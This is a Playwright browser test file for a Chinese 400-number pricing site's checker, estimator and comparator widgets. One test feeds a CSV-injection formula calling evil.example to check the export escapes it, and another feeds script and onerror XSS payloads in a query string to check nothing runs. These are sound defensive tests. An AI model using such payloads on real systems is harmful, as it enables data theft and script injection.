import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { keptTab } from '../helpers/kept-tab';
import { releaseChromium, sharedChromium } from '../helpers/chromium';
import { siteTariff, ROOT } from '../helpers/tariff';
import { quote, quoteFields } from '../../src/engine/index';
import { readState, requestOf } from '../../src/islands/input/url-state';
import { yuan } from '../../src/presentation/format';

/** The total the engine gives with the tariff the site is built with, as the page shows it. */
function liveTotal(request: Record<string, unknown>): string {
  const result = quote(siteTariff, request);
  if (!result.ok || !('quote' in result) || result.quote.total === null) throw new Error('expected one priced quote');
  return yuan(result.quote.total);
}

const SCREENSHOTS = join(ROOT, 'test/output/screenshots');
const base = inject('siteUrl');

describe('widgets in the browser', () => {
  let browser: Browser;
  let page: Page;
  beforeAll(async () => {
    browser = await sharedChromium();
    mkdirSync(SCREENSHOTS, { recursive: true });
  });
  afterAll(async () => releaseChromium(browser));

  const tab = keptTab(() => browser, 900);
  /** A new phone-sized tab (nothing fetched before, no handler left behind) that lists the engine's files it fetches: the engine, and the widget's own file of figures. */
  async function engineWatch(figures: string): Promise<{ page: Page; engineFiles: string[] }> {
    const engineFiles: string[] = [];
    const page = await browser.newPage({ viewport: { width: 390, height: 844 } });
    const file = new RegExp(`/_astro/(engine|${figures})\\.[^/]*\\.js$`, 'u');
    page.on('request', (request) => {
      if (file.test(request.url())) engineFiles.push(request.url());
    });
    return { page, engineFiles };
  }
  async function open(path: string, width = 1280): Promise<Page> {
    page = await tab(width);
    await page.goto(new URL(path, base).href);
    await page.waitForSelector('astro-island:not([ssr])');
    return page;
  }

  describe('number checker', () => {
    it('grades 400 123 6688 as 特级号码 by AABB and lists its plans', async () => {
      await open('checker/');
      await page.fill('#checker-input', '400 123 6688');
      await page.waitForSelector('.number-result');
      expect(await page.textContent('.big-number')).toBe('400-123-6688');
      const facts = await page.textContent('.number-result .facts');
      expect(facts).toContain('特级号码');
      expect(facts).toContain('尾号 AABB');
      expect(await page.$$eval('.plan-links li > a:first-child', (as) => as.map((a) => a.textContent))).toEqual([
        '年套餐 3000元/年',
        '年套餐 80000元/年',
      ]);
      expect(await page.getAttribute('.plan-links li a[href*="estimator"]', 'href')).toBe(
        `/estimator/?plan=annual-3000&number=4001236688&v=${siteTariff.settings.effective}`,
      );
      await page.screenshot({ path: join(SCREENSHOTS, 'checker-desktop.png'), fullPage: true });
    });

    it.each([
      ['400-ABC-1234', '号码只能包含数字'],
      ['5001234567', '400号码必须以 400 开头'],
      ['40012345', '400号码应为 10 位数字'],
    ])('%s gets its own message', async (input, message) => {
      await open('checker/');
      await page.fill('#checker-input', input);
      expect(await page.textContent('#checker-error')).toContain(message);
      expect(await page.getAttribute('#checker-input', 'aria-invalid')).toBe('true');
      await page.fill('#checker-input', '');
      expect(await page.textContent('#checker-error')).toBe('请输入400号码');
    });

    it('judges a pasted list and sorts it by grade', async () => {
      await open('checker/', 390);
      await page.fill('#checker-input', '4001234568\n4001237777, 400-123-4566\n12345\n4001236688');
      await page.waitForSelector('.checker table');
      const grades = () =>
        page.$$eval('.checker tbody tr', (trs) =>
          trs.map((tr) => tr.querySelector('td[data-label="等级"], td.field-error')?.textContent),
        );
      expect(await grades()).toEqual([
        '普通号码 50元/月',
        '超级号码',
        '普通号码 80元/月',
        '400号码必须以 400 开头',
        '特级号码',
      ]);
      await page.click('text=等级从高到低');
      expect(await grades()).toEqual([
        '超级号码',
        '特级号码',
        '普通号码 80元/月',
        '普通号码 50元/月',
        '400号码必须以 400 开头',
      ]);
      expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
      await page.screenshot({ path: join(SCREENSHOTS, 'checker-batch-phone.png'), fullPage: true });
    });

    it('the CSV download names plans in Chinese and runs no formula from a pasted cell', async () => {
      await open('checker/?n=%3DHYPERLINK(%22http%3A%2F%2Fevil.example%2F%3Fleak%22)%0A4001236688', 1280);
      const link = await page.waitForSelector('a:has-text("下载全部结果")');
      const href = (await link.getAttribute('href')) ?? '';
      const csv = await page.evaluate(async (url) => (await fetch(url)).text(), href);
      const lines = csv.replace(/^\uFEFF/u, '').split('\r\n');
      expect(lines[0]).toBe('"输入","号码","等级","规则或错误","可选套餐"');
      expect(lines.find((l) => l.includes('HYPERLINK'))).toBe(
        '"\'=HYPERLINK(""http://evil.example/?leak"")","","","号码只能包含数字（可带空格、横线、点或括号）",""',
      );
      const row = lines.find((l) => l.includes('4001236688')) ?? '';
      expect(row).toMatch(/年套餐 \d+元\/年/u);
      expect(row).not.toMatch(/annual-|monthly-/u);
    });
  });

  describe('cost estimator', () => {
    it('quotes annual-1200, 1500 minutes, 2 years with an invoice as the engine does, and the URL reloads it', async () => {
      // 3,132.00 as published (test/engine); the live tariff's own figure here, so a price change breaks nothing.
      const total = liveTotal({ plan: 'annual-1200', minutesPerMonth: 1500, prepayYears: 2, invoice: true });
      await open('estimator/');
      await page.selectOption('#est-plan', 'annual-1200');
      await page.fill('#est-minutes', '1500');
      await page.selectOption('#est-years', '2');
      await page.check('text=需要发票');
      await expect.poll(() => page.textContent('[data-testid="quote-total"]')).toBe(total);
      await expect
        .poll(() => new URL(page.url()).search)
        .toBe(`?plan=annual-1200&minutes=1500&years=2&invoice=1&v=${siteTariff.settings.effective}`);
      const url = page.url();
      await page.screenshot({ path: join(SCREENSHOTS, 'estimator-desktop.png'), fullPage: true });

      await open(new URL(url).pathname + new URL(url).search, 390);
      await expect.poll(() => page.textContent('[data-testid="quote-total"]')).toBe(total);
      expect(await page.inputValue('#est-minutes')).toBe('1500');
      expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
      await page.screenshot({ path: join(SCREENSHOTS, 'estimator-phone.png'), fullPage: true });
    });

    it('hydrates without the engine: the first quote is the build’s, the engine comes as the visitor turns to the form, and a failed fetch is said, never an old total', async () => {
      const first = quoteFields(siteTariff, requestOf(readState(siteTariff, '').state));
      if (!first.ok || !('quotes' in first)) throw new Error('expected every plan quoted');
      const { page, engineFiles } = await engineWatch('estimate');
      await page.goto(new URL('estimator/', base).href);
      await page.waitForSelector('.widget.estimator:not([aria-busy]) [data-testid="quote-total"]');
      expect(await page.textContent('[data-testid="quote-total"]')).toBe(yuan(first.quotes[0]?.total ?? ''));
      expect(engineFiles).toEqual([]);
      await page.focus('#est-minutes');
      await expect.poll(() => engineFiles.length).toBe(2);
      await page.fill('#est-minutes', '1500');
      await page.selectOption('#est-plan', 'annual-1200');
      await expect
        .poll(() => page.textContent('[data-testid="quote-total"]'))
        .toBe(liveTotal({ plan: 'annual-1200', minutesPerMonth: 1500, prepayYears: 1 }));

      // The engine's file cannot be fetched (offline, a deploy in between): the first quote stays, a change is not quoted.
      await page.goto(new URL('estimator/', base).href);
      await page.waitForSelector('.widget.estimator:not([aria-busy]) [data-testid="quote-total"]');
      await page.route(/\/_astro\/.*\.js$/u, (route) => route.abort());
      await page.fill('#est-minutes', '1500');
      await page.waitForSelector('[data-testid="quote-failed"]');
      expect(await page.textContent('[data-testid="quote-failed"]')).toBe(
        `报价暂时无法计算（计算程序未能载入）：请刷新页面再试，或拨打全国统一热线 ${siteTariff.contact.hotline}。`,
      );
      expect(await page.$('[data-testid="quote-total"]')).toBeNull();
      await page.close();
    });

    it('edits replace the history entry: Back after three edits leaves the estimator', async () => {
      page = await browser.newPage({ viewport: { width: 390, height: 844 } });
      await page.goto(new URL('plans/', base).href);
      await page.goto(new URL('estimator/', base).href);
      await page.waitForSelector('.widget.estimator:not([aria-busy])');
      await page.fill('#est-minutes', '1234');
      await page.locator('#est-minutes').blur();
      await page.selectOption('#est-years', '2');
      await page.selectOption('#est-years', '3');
      await expect.poll(() => new URL(page.url()).searchParams.get('years')).toBe('3');
      expect(new URL(page.url()).searchParams.get('minutes')).toBe('1234');
      await page.goBack();
      await page.waitForURL(/\/plans\/$/u);
      await page.close();
    });

    it('an invalid quantity says why and shows no total until it is fixed', async () => {
      await open('estimator/?plan=annual-1200&addons=ivr&ivr.levels=2');
      await page.waitForSelector('[data-testid="quote-total"]');
      for (const bad of ['0', '2.5', '']) {
        await page.fill('#q-ivr-levels', bad);
        await expect
          .poll(() => page.textContent('#q-ivr-levels-error'))
          .toBe('请输入 1 到 100,000,000 之间的整数（层）');
        expect(await page.$('[data-testid="quote-total"]'), bad).toBeNull();
      }
      await page.fill('#q-ivr-levels', '３层');
      await page.waitForSelector('[data-testid="quote-total"]');
      // The URL is written just after the frame that shows the total: wait for it, as for minutes below.
      await expect.poll(() => new URL(page.url()).searchParams.get('ivr.levels')).toBe('3');
      await page.fill('#est-minutes', '1,500 分钟');
      await expect.poll(() => new URL(page.url()).searchParams.get('minutes')).toBe('1500');
    });

    it('an add-on another one needs is shown ticked and fixed, with the reason; the panel fits a phone', async () => {
      await open('estimator/?plan=monthly-600&addons=ringback-multi', 390);
      await page.waitForSelector('.addons-panel[open]');
      const ringback = page.locator('.addons li', { hasText: '彩铃功能' }).first();
      expect(await ringback.locator('input').isChecked()).toBe(true);
      expect(await ringback.locator('input').isDisabled()).toBe(true);
      expect(await ringback.locator('.auto-added').textContent()).toBe('炫铃功能需要此功能，已自动加入');
      const edges = await page.evaluate(() => {
        const card = document.querySelector('.widget.estimator')?.getBoundingClientRect();
        const panel = document.querySelector('.addons-panel')?.getBoundingClientRect();
        return { card: card?.right ?? 0, panel: panel?.right ?? 0 };
      });
      expect(edges.panel).toBeLessThanOrEqual(edges.card);
      expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
    });

    it('explains add-ons: needed, waived and included lines', async () => {
      await open('estimator/?plan=annual-1500&minutes=0&addons=ringback-multi,ivr&ringback-multi.files=12');
      await page.waitForSelector('.quote-lines');
      const lines = await page.$$eval('.quote-lines tbody tr', (trs) => trs.map((tr) => tr.textContent ?? ''));
      expect(lines.some((l) => l.includes('彩铃功能') && l.includes('IVR语音导航已含彩铃功能费用'))).toBe(true);
      expect(lines.some((l) => l.includes('炫铃功能 · 功能费') && l.includes('年套餐赠送'))).toBe(true);
      const total = liveTotal({
        plan: 'annual-1500',
        minutesPerMonth: 0,
        prepayYears: 1,
        addons: { 'ringback-multi': { files: 12 }, ivr: {} },
      });
      expect(await page.textContent('[data-testid="quote-total"]')).toBe(total);
    });

    it('a hostile query string shows the defaults and a notice, and injects nothing', async () => {
      await open('estimator/?plan=<script>window.hacked=1</script>&minutes=<img src=x onerror=window.hacked=1>');
      expect(await page.textContent('.notice')).toContain('已恢复为默认值：套餐、通话分钟数');
      expect(await page.inputValue('#est-plan')).toBe('all');
      expect(await page.inputValue('#est-minutes')).toBe('300');
      expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();
      expect(await page.$$('.quote-result img')).toHaveLength(0);
    });

    it('a bad number is named next to its field; all plans are listed cheapest first', async () => {
      await open('estimator/?number=12345');
      expect(await page.textContent('#est-number-error')).toBe('400号码必须以 400 开头');
      await page.fill('#est-number', '400-123-6688');
      await page.waitForSelector('.quote-result tbody tr');
      expect(await page.$$eval('.quote-result tbody tr th', (ths) => ths.map((th) => th.textContent))).toEqual([
        '年套餐 3000元/年',
        '年套餐 80000元/年',
        '月套餐 600元/年',
        '月套餐 960元/年',
        '年套餐 1200元/年',
        '年套餐 1500元/年',
        '年套餐 2000元/年',
        '年套餐 3600元/年',
      ]);
    });
  });

  describe('办理 where it can go through, and by phone where it cannot', () => {
    it('a 来电咨询 plan or a grade the plan does not take: 电话办理 at the number the rules name, no 在线办理', async () => {
      for (const [path, phone, reason] of [
        [
          'estimator/?plan=annual-3000&minutes=300',
          '4006-130-866',
          '年套餐 3000元/年的通话资费为来电咨询，不能在线办理',
        ],
        [
          'estimator/?plan=annual-1200&number=4001236688',
          '4006-130-866',
          '特级号码不能选年套餐 1200元/年，不能在线办理',
        ],
        [
          'estimator/?plan=monthly-600&grade=ordinary-80',
          '400-7788-691',
          '普通号码 80元/月不能选月套餐 600元/年，不能在线办理',
        ],
      ] as const) {
        await open(path, 390);
        await page.waitForSelector('[data-testid="phone-apply"]');
        expect(await page.textContent('[data-testid="phone-apply"]'), path).toBe(`电话办理 ${phone}`);
        expect(await page.getAttribute('[data-testid="phone-apply"]', 'href')).toBe(`tel:${phone.replaceAll('-', '')}`);
        expect(await page.textContent('.widget.estimator')).toContain(`${reason}，请来电办理。`);
        expect(await page.$$('.widget.estimator a[href*="apply/"]')).toHaveLength(0);
        // The contact bar dials too.
        expect(await page.textContent('[data-apply-link]')).toBe('电话办理');
      }
      await open('estimator/?plan=annual-1200&number=4001234566', 390);
      await page.waitForSelector('.widget.estimator a[href*="apply/"]');
      expect(await page.$$('[data-testid="phone-apply"]')).toHaveLength(0);
    });

    it('the checker offers 在线办理 for plans with a published rate and 电话办理 4006-130-866 for 来电咨询 plans', async () => {
      await open('checker/?n=4001236688');
      await page.waitForSelector('.plan-links');
      expect(
        await page.$$eval('.plan-links li', (lis) => lis.map((li) => li.textContent?.replace(/\s+/gu, ' ').trim())),
      ).toEqual([
        '年套餐 3000元/年来电咨询 · 估算费用 · 电话办理 4006-130-866',
        '年套餐 80000元/年来电咨询 · 估算费用 · 电话办理 4006-130-866',
      ]);
      // An ordinary number: 在线办理 for each plan with a published rate, the phone for the two 来电咨询 plans.
      await page.goto(new URL('checker/?n=4001234566', base).href);
      await page.waitForSelector('.plan-links');
      const links = await page.$$eval('.plan-links li', (lis) =>
        lis.map((li) => li.querySelector('a:last-child')?.textContent?.trim() ?? ''),
      );
      expect(links).toEqual([
        '在线办理',
        '在线办理',
        '在线办理',
        '在线办理',
        '电话办理 4006-130-866',
        '在线办理',
        '电话办理 4006-130-866',
      ]);
    });
  });

  describe('plan comparator', () => {
    it('a link with unreadable values says which fell back to defaults, as the estimator does', async () => {
      await open('compare/?minutes=abc&years=99&grade=vip');
      expect(await page.textContent('[data-testid="reset-notice"]')).toBe(
        '链接中的部分参数无效，已恢复为默认值：通话分钟数、预存年数、号码等级。',
      );
      expect(await page.inputValue('#cmp-minutes')).toBe('300');
    });

    it('marks the cheapest plan for 300 minutes and shows break-even minutes', async () => {
      await open('compare/');
      await page.fill('#cmp-minutes', '300');
      await expect.poll(() => page.textContent('tr.cheapest th a')).toBe('月套餐 600元/年');
      expect(await page.textContent('.result-summary')).toContain('合计 600.00 元');
      expect(await page.textContent('.break-evens')).toContain('月套餐 600元/年 → 月套餐 960元/年：每月 616 分钟起');
      await page.fill('#cmp-minutes', '1500');
      await expect.poll(() => page.textContent('tr.cheapest th a')).toBe('年套餐 1200元/年');
      await page.locator('.chart-place').scrollIntoViewIfNeeded();
      await expect.poll(() => page.$$('.cost-chart polyline').then((lines) => lines.length)).toBe(6);
      await page.screenshot({ path: join(SCREENSHOTS, 'compare-desktop.png'), fullPage: true });
      await page.setViewportSize({ width: 390, height: 844 });
      expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
      await page.screenshot({ path: join(SCREENSHOTS, 'compare-phone.png'), fullPage: true });
    });

    it('hydrates without the engine: the build’s figures first, the engine as the visitor turns to it, a failed fetch said', async () => {
      const { page, engineFiles } = await engineWatch('comparison');
      await page.goto(new URL('compare/', base).href);
      await page.waitForSelector('.widget.comparator:not([aria-busy]) .compare-table');
      expect(await page.textContent('.result-summary')).toBe(
        '每月 300 分钟、预存 1 年时，最省的是月套餐 600元/年：合计 600.00 元（服务 1 年）。',
      );
      expect(await page.textContent('.break-evens')).toContain('月套餐 600元/年 → 月套餐 960元/年：每月 616 分钟起');
      expect(engineFiles).toEqual([]);
      await page.focus('#cmp-minutes');
      await expect.poll(() => engineFiles.length).toBe(2);
      await page.fill('#cmp-minutes', '1500');
      await expect.poll(() => page.textContent('tr.cheapest th a')).toBe('年套餐 1200元/年');

      // The engine's file cannot be fetched: other minutes get no total, and the summary says why.
      await page.goto(new URL('compare/', base).href);
      await page.waitForSelector('.widget.comparator:not([aria-busy]) .compare-table');
      await page.route(/\/_astro\/.*\.js$/u, (route) => route.abort());
      await page.fill('#cmp-minutes', '1500');
      await expect
        .poll(() => page.textContent('.result-summary'))
        .toBe('对比结果暂时无法计算（计算程序未能载入）：请刷新页面再试。');
      expect(await page.$('tr.cheapest')).toBeNull();
      await page.close();
    });

    it('fetches the chart’s file only as the chart nears the screen, and says so when it cannot be fetched', async () => {
      const chartFiles: string[] = [];
      await open('compare/?minutes=1500', 390);
      const onRequest = (request: { url(): string }) => {
        if (/\/CostChart\.[^/]*\.js$/u.test(request.url())) chartFiles.push(request.url());
      };
      page.on('request', onRequest);
      await page.waitForSelector('.widget.comparator:not([aria-busy]) .compare-table');
      // A phone's first screen holds the form and the table: the chart is far below.
      expect(await page.$('.chart-place .chart-waiting')).not.toBeNull();
      expect(chartFiles).toEqual([]);
      await page.locator('.chart-place').scrollIntoViewIfNeeded();
      await page.waitForSelector('.cost-chart polyline');
      expect(chartFiles).toHaveLength(1);
      page.off('request', onRequest);

      // Offline from here: a page load that needs the chart again cannot fetch it.
      await open('compare/?minutes=1600', 390);
      await page.waitForSelector('.widget.comparator:not([aria-busy]) .compare-table');
      await page.route(/\/_astro\/.*\.js$/u, (route) => route.abort());
      await page.locator('.chart-place').scrollIntoViewIfNeeded();
      await page.waitForSelector('[data-testid="chart-failed"]');
      expect(await page.textContent('[data-testid="chart-failed"]')).toBe(
        '图表暂时无法显示（上表已列出各套餐的合计）：请刷新页面再试。',
      );
      expect(await page.$('.chart-waiting')).toBeNull();
    });
  });

  it.each([
    ['estimator/?plan=annual-1200&minutes=1500', '#est-minutes', '正在读取报价…', '[data-testid="quote-total"]'],
    ['compare/?minutes=1500', '#cmp-minutes', '正在读取对比条件…', '.compare-table'],
    ['checker/?n=4001236688', '#checker-input', undefined, '.number-result'],
    // 选号 lists a stock: the build with the fixture inventory.
    [new URL('numbers/?end=0788', inject('baseSiteUrl')).href, '#picker-end', undefined, '.pick'],
  ])('before its script has run, %s shows its form, disabled, and no answer', async (path, field, reading, answer) => {
    const page = await browser.newPage({ viewport: { width: 390, height: 844 } });
    // The scripts never arrive: what a slow phone shows until they do.
    await page.route('**/_astro/*.js', (route) => route.abort());
    await page.goto(new URL(path, base).href);
    expect(await page.isVisible(field)).toBe(true);
    expect(await page.isDisabled(field)).toBe(true);
    if (reading !== undefined) expect(await page.textContent('[data-testid="reading-quote"]')).toBe(reading);
    expect(await page.$(answer)).toBeNull();
    await page.close();
  });

  describe('without JavaScript', () => {
    it.each(['checker/', 'compare/', 'estimator/'])(
      '%s shows the static tables and says the widget needs JavaScript',
      async (path) => {
        const context = await browser.newContext({ javaScriptEnabled: false });
        const p = await context.newPage();
        await p.goto(new URL(path, base).href);
        expect(await p.textContent('.needs-js')).toContain('需要启用 JavaScript');
        expect(await p.$$('table')).not.toHaveLength(0);
        await context.close();
      },
    );

    it('在线办理 says it needs JavaScript, shows no form, and lists what an application needs and whom to call', async () => {
      const context = await browser.newContext({ javaScriptEnabled: false });
      const p = await context.newPage();
      await p.goto(new URL('apply/?plan=annual-1200&number=4001234566', base).href);
      expect(await p.textContent('.needs-js')).toContain('在线填写申请需要启用 JavaScript');
      // Shown controls: the estimator's form is in the HTML, not rendered without JavaScript.
      const shown = await p.$$eval('main input, main select, main button', (controls) =>
        controls.filter((c) => c.getClientRects().length > 0),
      );
      expect(shown).toHaveLength(0);
      const text = (await p.textContent('main')) ?? '';
      expect(text).toContain('营业执照、经办人身份证、400业务受理单');
      expect(await p.$$('main a[href^="tel:"]')).not.toHaveLength(0);
      await context.close();
    });
  });
});
